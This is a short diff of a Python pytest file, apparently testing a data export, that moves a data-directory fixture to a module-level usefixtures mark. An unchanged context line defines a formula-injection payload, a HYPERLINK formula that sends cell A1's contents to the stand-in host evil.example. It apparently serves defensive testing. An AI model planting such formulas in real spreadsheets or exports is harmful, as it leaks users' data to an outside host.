@@ -18,10 +18,7 @@ LAYOUT = ["time", "source", "code", "mnemonic", "value", "text", "unit"]
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
 
-@pytest.fixture(autouse=True)
-def data_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
-    monkeypatch.setenv("WITS_DATA_DIR", str(tmp_path / "data"))
-    return tmp_path / "data"
+pytestmark = pytest.mark.usefixtures("data_dir")
 
 
 @pytest.fixture
